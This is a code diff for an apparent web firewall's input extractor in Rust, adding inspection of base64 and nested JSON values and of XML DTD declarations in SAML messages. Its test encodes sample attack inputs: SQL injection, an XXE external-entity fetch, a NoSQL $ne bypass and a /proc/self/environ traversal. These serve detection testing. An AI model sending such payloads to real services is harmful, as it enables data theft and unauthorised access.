@@ -648,6 +648,11 @@ fn urlencoded(c: &mut Collector<'_>, data: &[u8], prefix: &str, from_query: bool
             // under `query:NAME:/path`.
             if matches!(v.trim_ascii_start().first(), Some(b'{' | b'[')) && !c.full() {
                 json_walk(c, &v, &format!("{prefix}:{}", label_part(&name)));
+            } else {
+                // Base64 the application decodes (`filter=eyJ3aGVyZSI6…`, a SAMLResponse).
+                base64_document(c, &v, Kind::Value, || {
+                    format!("{prefix}:{}", label_part(&name))
+                });
             }
             if &*name == b"_method" && c.out.method_overrides.len() < MAX_METHOD_OVERRIDES {
                 let m = v.trim_ascii();
@@ -705,7 +710,6 @@ const EMBEDDED_BASE64: base64::engine::GeneralPurpose = base64::engine::GeneralP
 /// ids, signatures) or to text with control characters is left alone, and so is a JWT
 /// (dots are not base64): its claims are the identity stage's to verify.
 fn embedded(c: &mut Collector<'_>, value: &[u8], prefix: impl FnOnce() -> String) {
-    use base64::Engine as _;
     let (text, _) = percent_decode_cow(value, false);
     let doc = text.trim_ascii_start();
     // Express's `cookie-parser` writes an object as `j:` and its JSON, and parses it back.
@@ -717,9 +721,28 @@ fn embedded(c: &mut Collector<'_>, value: &[u8], prefix: impl FnOnce() -> String
         json_walk(c, doc, &prefix());
         return;
     }
+    base64_document(c, &text, Kind::CookieValue, prefix);
+}
+
+/// Base64 text that an application decodes and uses (a cookie, an encoded filter in a query,
+/// a SAML message, a storage key in JSON): the standard or URL-safe alphabet, at least
+/// [`MIN_EMBEDDED_BASE64`] characters, decoding to UTF-8 text with letters and no control
+/// characters but tabs and line breaks. It is inspected as the application will read it: a
+/// JSON document's keys and strings under `PREFIX:b64:/path`, an XML document's elements
+/// and attributes under `PREFIX:b64:xml:/path`, other text whole as one `kind` input under
+/// `PREFIX:b64`. Base64 of binary (random ids, signatures, hashes) is left alone, and so is a
+/// JWT (dots are not base64): its claims are the identity stage's to verify.
+fn base64_document(
+    c: &mut Collector<'_>,
+    text: &[u8],
+    kind: Kind,
+    prefix: impl FnOnce() -> String,
+) {
+    use base64::Engine as _;
     let unpadded = text.strip_suffix(b"==").or_else(|| text.strip_suffix(b"="));
-    let unpadded = unpadded.unwrap_or(&text);
+    let unpadded = unpadded.unwrap_or(text);
     if unpadded.len() < MIN_EMBEDDED_BASE64
+        || c.full()
         || !unpadded
             .iter()
             .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'-' | b'_'))
@@ -748,13 +771,47 @@ fn embedded(c: &mut Collector<'_>, value: &[u8], prefix: impl FnOnce() -> String
         return;
     }
     let label = format!("{}:b64", prefix());
-    let first = decoded.iter().find(|b| !b.is_ascii_whitespace()).copied();
-    if matches!(first, Some(b'{' | b'[')) && json_walk(c, &decoded, &label) {
+    let first = decoded.iter().find(|b| !b.is_ascii_whitespace());
+    if kind != Kind::CookieValue {
+        // An XML message (SAML's, sent base64 by design) is read for its DTD: external
+        // entities there are what its parser fetches. Its URLs and names are data.
+        if first == Some(&b'<') {
+            xml_declarations(c, &decoded, &label);
+            return;
+        }
+        // Text of several lines is a file's content (GitHub's contents API, attachments):
+        // stored, not interpreted.
+        if decoded.trim_ascii().contains(&b'\n') {
+            return;
+        }
+    }
+    if matches!(first, Some(b'{' | b'[')) && json_walk_at(c, &decoded, &label, true) {
         return;
     }
-    c.offer(Kind::CookieValue, &decoded, false, false, |l| {
-        l.push_str(&label)
-    });
+    c.offer(kind, &decoded, false, false, |l| l.push_str(&label));
+}
+
+/// The markup declarations of an XML document (`<!DOCTYPE …>`, `<!ENTITY …>`), each as a
+/// [`Kind::Declaration`] under `PREFIX:!declaration`; comments and CDATA are not ones.
+fn xml_declarations(c: &mut Collector<'_>, doc: &[u8], prefix: &str) {
+    let mut rest = doc;
+    for _ in 0..8 {
+        let Some(at) = memchr::memmem::find(rest, b"<!") else {
+            return;
+        };
+        rest = &rest[at..];
+        let end = memchr::memchr(b'>', rest).map_or(rest.len(), |e| e + 1);
+        if !rest.starts_with(b"<!--") && !rest.starts_with(b"<![CDATA[") {
+            c.push(
+                format!("{prefix}:!declaration"),
+                Kind::Declaration,
+                rest[..end].to_vec(),
+                false,
+                false,
+            );
+        }
+        rest = &rest[end..];
+    }
 }
 
 /// JWTs as they are sent: base64url, padding optional.
@@ -1061,7 +1118,7 @@ fn body(c: &mut Collector<'_>, req: &RequestView<'_>) {
     } else if mt.ends_with("json") || mt.ends_with("+json") {
         json(c, body, "json");
     } else if mt.ends_with("/xml") || mt.ends_with("+xml") {
-        xml(c, body);
+        xml(c, body, "xml");
     } else if mt.starts_with("text/") || (mt.starts_with("application/") && !is_binary_type(&mt)) {
         // JSON sent under another name (`text/plain` from `navigator.sendBeacon`, an error
         // reporter's envelope) is read as JSON: its values are what the application parses,
@@ -1128,6 +1185,12 @@ fn json(c: &mut Collector<'_>, body: &[u8], prefix: &str) {
 /// Reads the JSON document `body` into inputs labelled under `prefix`, or answers false and
 /// leaves `c` as it was when `body` is not JSON.
 fn json_walk(c: &mut Collector<'_>, body: &[u8], prefix: &str) -> bool {
+    json_walk_at(c, body, prefix, false)
+}
+
+/// [`json_walk`]; `embedded` for a document found inside another value (a string holding
+/// JSON, base64 of JSON), whose own strings are not searched for documents again.
+fn json_walk_at(c: &mut Collector<'_>, body: &[u8], prefix: &str, embedded: bool) -> bool {
     // Streamed: every key and string value becomes an input as the parser reads it, with no
     // document tree built first. A repeated key is inspected every time it occurs.
     // What the walk collected before an error is dropped again.
@@ -1151,6 +1214,7 @@ fn json_walk(c: &mut Collector<'_>, body: &[u8], prefix: &str) -> bool {
         path: &mut path,
         prefix,
         depth: 0,
+        embedded,
     };
     let parsed = serde::de::DeserializeSeed::deserialize(walk, &mut de).and_then(|()| de.end());
     if parsed.is_err() {
@@ -1190,6 +1254,8 @@ struct JsonWalk<'a, 'l> {
     path: &'a mut String,
     prefix: &'a str,
     depth: usize,
+    /// The document was found inside another value (see [`json_walk_at`]).
+    embedded: bool,
 }
 
 impl<'l> JsonWalk<'_, 'l> {
@@ -1214,6 +1280,7 @@ impl<'l> JsonWalk<'_, 'l> {
             path: &mut *self.path,
             prefix: self.prefix,
             depth: self.depth + 1,
+            embedded: self.embedded,
         }
     }
 }
@@ -1261,6 +1328,18 @@ impl<'de> serde::de::Visitor<'de> for JsonWalk<'_, '_> {
             self.c.offer(Kind::Value, s.as_bytes(), false, false, |l| {
                 write_json_label(l, prefix, path);
             });
+            // A string the application parses again: JSON serialised into a field
+            // (`"criteria": "{\"email\": {\"$regex\": …}}"`, a GraphQL variable), or base64.
+            if !self.embedded {
+                let doc = s.trim_ascii_start().as_bytes();
+                if matches!(doc.first(), Some(b'{' | b'[')) {
+                    json_walk_at(self.c, doc, &json_label(prefix, path), true);
+                } else {
+                    base64_document(self.c, s.as_bytes(), Kind::Value, || {
+                        json_label(prefix, path)
+                    });
+                }
+            }
         }
         Ok(())
     }
@@ -1586,7 +1665,7 @@ fn multipart_part(c: &mut Collector<'_>, head: &[u8], content: &[u8], form_data:
             .as_deref()
             .is_some_and(|t| t.starts_with("image/") && !image_magic(content));
         if part_ct.as_deref() == Some("image/svg+xml") && inert_svg(content) {
-            xml(c, content);
+            xml(c, content, "xml");
         } else if textual {
             c.push(
                 format!("file-content:{field}"),
@@ -1609,7 +1688,7 @@ fn multipart_part(c: &mut Collector<'_>, head: &[u8], content: &[u8], form_data:
     match part_ct.as_deref() {
         Some(t) if t.ends_with("json") => json(c, content, &format!("multipart:{field}")),
         // The root of a SOAP message with attachments (`application/xop+xml`) is a document.
-        Some(t) if !form_data && t.ends_with("xml") => xml(c, content),
+        Some(t) if !form_data && t.ends_with("xml") => xml(c, content, "xml"),
         _ => c.push(
             format!("multipart:{field}"),
             Kind::Value,
@@ -1869,7 +1948,7 @@ fn disposition_params(v: &[u8]) -> Vec<(String, Vec<u8>)> {
 /// A tolerant, bounded XML scanner: element text and attribute values become inputs labelled
 /// `xml:/root/elem` and `xml:/root/elem@attr`. Not a validating parser; markup it does not
 /// understand is skipped.
-fn xml(c: &mut Collector<'_>, body: &[u8]) {
+fn xml(c: &mut Collector<'_>, body: &[u8], prefix: &str) {
     let mut stack: Vec<String> = Vec::new();
     let mut i = 0;
     let mut text_start = 0;
@@ -1881,7 +1960,7 @@ fn xml(c: &mut Collector<'_>, body: &[u8]) {
         let text = body[text_start..i].trim_ascii();
         if !text.is_empty() {
             c.push(
-                format!("xml:/{}", stack.join("/")),
+                format!("{prefix}:/{}", stack.join("/")),
                 Kind::Value,
                 text.to_vec(),
                 false,
@@ -1894,7 +1973,7 @@ fn xml(c: &mut Collector<'_>, body: &[u8]) {
             let end = memchr::memmem::find(&rest[9..], b"]]>").map_or(body.len(), |e| i + 9 + e);
             let data = &body[(i + 9).min(end)..end];
             c.push(
-                format!("xml:/{}", stack.join("/")),
+                format!("{prefix}:/{}", stack.join("/")),
                 Kind::Value,
                 data.to_vec(),
                 false,
@@ -1934,13 +2013,18 @@ fn xml(c: &mut Collector<'_>, body: &[u8]) {
                     .unwrap_or(pi.len());
                 let target = &pi[..target_end];
                 if !target.is_empty() && !target.eq_ignore_ascii_case(b"xml") {
-                    xml_attributes(c, &pi[target_end..], &format!("?{}", label_part(target)));
+                    xml_attributes(
+                        c,
+                        &pi[target_end..],
+                        prefix,
+                        &format!("?{}", label_part(target)),
+                    );
                 }
             }
             if rest.starts_with(b"<!") && !rest.starts_with(b"<!--") {
                 // DOCTYPE / ENTITY declarations can carry XXE; inspect them as a value.
                 c.push(
-                    "xml:!declaration".to_owned(),
+                    format!("{prefix}:!declaration"),
                     Kind::Declaration,
                     inner.to_vec(),
                     false,
@@ -1976,7 +2060,7 @@ fn xml(c: &mut Collector<'_>, body: &[u8]) {
         {
             c.anomaly(
                 rules::NODE_PROTOTYPE,
-                &format!("xml:/{}/{name}", stack.join("/")),
+                &format!("{prefix}:/{}/{name}", stack.join("/")),
                 &name,
             );
         }
@@ -1985,14 +2069,14 @@ fn xml(c: &mut Collector<'_>, body: &[u8]) {
         } else {
             format!("{}/{}", stack.join("/"), name)
         };
-        xml_attributes(c, &tag[name_end..], &here);
+        xml_attributes(c, &tag[name_end..], prefix, &here);
         if !self_closing && stack.len() < c.limits.max_json_depth {
             stack.push(name);
         }
     }
 }
 
-fn xml_attributes(c: &mut Collector<'_>, mut a: &[u8], element: &str) {
+fn xml_attributes(c: &mut Collector<'_>, mut a: &[u8], prefix: &str, element: &str) {
     for _ in 0..32 {
         a = a.trim_ascii_start();
         let Some(eq) = memchr::memchr(b'=', a) else {
@@ -2009,14 +2093,14 @@ fn xml_attributes(c: &mut Collector<'_>, mut a: &[u8], element: &str) {
         };
         let value = &rest[1..1 + close];
         c.push(
-            format!("xml:/{element}@{name}"),
+            format!("{prefix}:/{element}@{name}"),
             Kind::Name,
             name.as_bytes().to_vec(),
             false,
             false,
         );
         c.push(
-            format!("xml:/{element}@{name}"),
+            format!("{prefix}:/{element}@{name}"),
             Kind::Value,
             value.to_vec(),
             false,
@@ -2384,6 +2468,49 @@ mod tests {
         )));
         assert!(paths.contains(&("header:x-rewrite-url".into(), "/a".into())));
         assert!(labels(&x, Kind::HeaderValue).contains(&("header:x-other".into(), "/b".into())));
+    }
+
+    #[test]
+    fn documents_inside_values_are_read_as_the_application_reads_them() {
+        use base64::Engine as _;
+        let b64 = |t: &str| base64::engine::general_purpose::STANDARD.encode(t);
+        let filter = b64(r#"{"where":"status='active') UNION SELECT 1--"}"#);
+        let saml = b64(
+            "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % x SYSTEM \"http://203.0.113.9/x.dtd\"> %x;]>\n<samlp:Response Destination=\"https://localhost/acs\"/>",
+        );
+        let script = b64("#!/bin/sh\nnpm test\n");
+        let query = format!(
+            "/?filter={filter}&SAMLResponse={}&file={script}",
+            saml.replace('+', "%2B")
+        );
+        let body = format!(
+            r#"{{"criteria":"{{\"token\":{{\"$ne\":null}}}}","key":"{}"}}"#,
+            b64("../../proc/self/environ")
+        );
+        let req = RequestView::new("POST", query.as_bytes())
+            .header("Content-Type", "application/json")
+            .body(body.as_bytes());
+        let x = extract(&req, &Limits::default(), None);
+        let vals = labels(&x, Kind::Value);
+        assert!(
+            vals.contains(&(
+                "query:filter:b64:/where".into(),
+                "status='active') UNION SELECT 1--".into()
+            )),
+            "{vals:?}"
+        );
+        assert!(vals.contains(&("json:/key:b64".into(), "../../proc/self/environ".into())));
+        assert!(
+            labels(&x, Kind::Name).contains(&("json:/criteria:/token/$ne".into(), "$ne".into()))
+        );
+        // SAML: the DTD, not the URLs that are data.
+        let decl = labels(&x, Kind::Declaration);
+        assert_eq!(decl.len(), 1, "{decl:?}");
+        assert_eq!(decl[0].0, "query:SAMLResponse:b64:!declaration");
+        assert!(decl[0].1.contains("<!ENTITY % x SYSTEM"));
+        assert!(!vals.iter().any(|(l, _)| l.contains("SAMLResponse:b64:xml")));
+        // A file's content of several lines is stored, not interpreted.
+        assert!(!vals.iter().any(|(l, _)| l.starts_with("query:file:b64")));
     }
 
     #[test]
